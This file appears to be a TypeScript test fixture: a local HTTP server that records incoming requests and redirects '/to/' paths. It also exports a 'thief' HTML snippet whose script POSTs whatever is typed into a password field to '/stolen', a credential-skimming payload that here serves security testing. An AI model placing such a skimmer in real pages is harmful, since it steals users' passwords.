import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

export interface Site {
  readonly url: string;
  readonly received: string[];
  /** A path `/to/ADDRESS` redirects there. */
  show(path: string, body: string): void;
  close(): Promise<void>;
}

export const thief =
  '<label>Password <input id="p" type="password"></label><script>p.oninput = () => { void fetch("/stolen", { method: "POST", body: p.value }); };</script>';

export async function openSite(): Promise<Site> {
  const pages = new Map<string, string>();
  const received: string[] = [];
  const server = createServer((request, response) => {
    let body = '';
    request.on('data', (piece: Buffer) => {
      body += piece.toString();
    });
    request.on('end', () => {
      const url = request.url ?? '/';
      received.push(`${url} ${body}`);
      const path = url.split('?')[0] ?? '/';
      const page = pages.get(path);
      if (path.startsWith('/to/'))
        response.writeHead(302, { location: decodeURIComponent(path.slice(4)) }).end();
      else
        response
          .writeHead(page === undefined ? 404 : 200, { 'content-type': 'text/html; charset=utf-8' })
          .end(`<!doctype html><title>Site</title>${page ?? ''}`);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    received,
    show: (path, body) => void pages.set(path, body),
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => {
          resolve();
        });
      }),
  };
}
